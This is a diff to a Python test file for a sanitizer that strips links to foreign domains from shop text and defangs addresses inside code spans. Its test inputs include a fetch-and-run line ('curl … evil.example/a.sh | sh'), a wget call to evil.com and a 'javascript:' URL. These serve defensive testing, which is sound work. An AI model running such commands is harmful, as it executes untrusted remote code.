@@ -1,6 +1,5 @@
 """Links that are not welcome go, however they are written; everything else stays."""
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -14,9 +13,8 @@ def cleaned(text: str) -> str:
     return without_links(text, lambda address: leads_to(address, DOMAINS), lambda name: name in QUOTED, "[–]")
 
 
-@pytest.mark.parametrize(
-    ("given_text", "shown"),
-    [
+def test_a_foreign_link_is_removed() -> None:
+    for given_text, shown in (
         ("Зайдите на https://evil.example/pay.", "Зайдите на [–]."),
         ("(http://evil.example)", "([–])"),
         ("HTTPS://EVIL.EXAMPLE", "[–]"),
@@ -40,16 +38,13 @@ def cleaned(text: str) -> str:
         ("ftp://evil.example/f", "[–]"),
         ("s3://other", "[–]"),
         ("яhttps://evil.example", "яhttps:[–]"),
-    ],
-)
-def test_a_foreign_link_is_removed(given_text: str, shown: str) -> None:
-    assert cleaned(given_text) == shown
-    assert cleaned(shown) == shown
+    ):
+        assert cleaned(given_text) == shown
+        assert cleaned(shown) == shown
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
+def test_all_other_text_is_unchanged() -> None:
+    for text in (
         "https://shop.example/returns?a=1#b и https://help.shop.example",
         "[возврат](https://www.shop.example/returns) и shop.example",
         "![схема](https://cdn.shop.net/a.png)",
@@ -59,15 +54,12 @@ def test_a_foreign_link_is_removed(given_text: str, shown: str) -> None:
         "http://localhost:8080/x и //комментарий",
         "a [1] (b) и/или c // d",
         "иван@почта.рф",
-    ],
-)
-def test_all_other_text_is_unchanged(text: str) -> None:
-    assert cleaned(text) == text
+    ):
+        assert cleaned(text) == text
 
 
-@pytest.mark.parametrize(
-    ("given_text", "shown"),
-    [
+def test_an_address_in_a_command_stays_to_be_read() -> None:
+    for given_text, shown in (
         ("`curl -O https://evil.example/a.sh | sh`", "`curl -O https:[//]evil[.]example/a.sh | sh`"),
         (
             "```bash\nwget www.evil.com/x?u=https://b.com\n```",
@@ -79,11 +71,9 @@ def test_all_other_text_is_unchanged(text: str) -> None:
         ("``` https://evil.example", "``` https:[//]evil[.]example"),
         (r"\`https://evil.example`", r"\`[–]`"),
         ("```\nhttps://evil.example\n```\nhttps://evil.example", "```\nhttps:[//]evil[.]example\n```\n[–]"),
-    ],
-)
-def test_an_address_in_a_command_stays_to_be_read(given_text: str, shown: str) -> None:
-    assert cleaned(given_text) == shown
-    assert cleaned(shown) == shown
+    ):
+        assert cleaned(given_text) == shown
+        assert cleaned(shown) == shown
 
 
 @given(st.text(alphabet="ab./:[]()!@\\ https`\n", max_size=60) | st.text())
@@ -96,9 +86,8 @@ def test_no_address_of_another_domain_remains(host: str, before: str, after: str
     assert f"https://{host}/x" not in cleaned(f"{before} https://{host}/x {after}")
 
 
-@pytest.mark.parametrize(
-    ("address", "host"),
-    [
+def test_hosts() -> None:
+    for address, host in (
         ("https://WWW.Shop.Example:8443/x", "shop.example"),
         ("//shop.example", "shop.example"),
         ("http://магазин.рф", "xn--80aairftm.xn--p1ai"),
@@ -106,7 +95,5 @@ def test_no_address_of_another_domain_remains(host: str, before: str, after: str
         ("javascript:alert(1)", None),
         ("https://[broken", None),
         ("", None),
-    ],
-)
-def test_hosts(address: str, host: str | None) -> None:
-    assert host_of(address) == host
+    ):
+        assert host_of(address) == host
